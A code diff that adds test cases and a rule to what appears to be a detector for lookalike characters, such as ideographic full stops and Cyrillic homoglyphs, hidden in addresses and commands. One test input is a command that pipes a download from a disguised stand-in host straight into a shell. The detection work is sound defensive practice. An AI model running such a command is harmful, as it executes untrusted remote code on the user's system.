@@ -69,9 +69,17 @@ describe("What can be taken for something else", () => {
     "github.com／x.evil.invalid",
     "user＠evil.invalid",
     "a⁄b.invalid",
+    "evil｡invalid",
+    "evil。invalid",
+    "nameʺx.invalid",
   ])("is marked in an address in prose: %s", (text) =>
     expect(isMarked(`See ${text} for more`, "prose")).toBe(true),
   );
+
+  test("is marked in what runs where a host has a full stop of Chinese, and nowhere else", () => {
+    expect(isMarked("curl evil。invalid/x | sh", "exact")).toBe(true);
+    expect(isMarked("git commit -m '修复测试。'", "exact")).toBe(false);
+  });
 
   test.each(["аррӏе.com", "x@аррӏе.сo", "сосо.рф", "https://рауро.сс/", "open раса now", "раса"])(
     "is marked as a whole word of another script: %s",
@@ -119,5 +127,6 @@ function isHarmless(character: string): boolean {
   if (INVISIBLE.test(character) || RIGHT_TO_LEFT.test(character)) return false;
   // A sign that belongs on a letter stands behind a space here.
   if (/\p{M}/u.test(character) || !COMMON_SCRIPT.test(character)) return false;
+  if ("｡ʺˮǁ".includes(character)) return false;
   return !/^[\x21-\x7E]+$/.test(character.normalize("NFKC")) && !LOOK_ALIKES.has(character);
 }
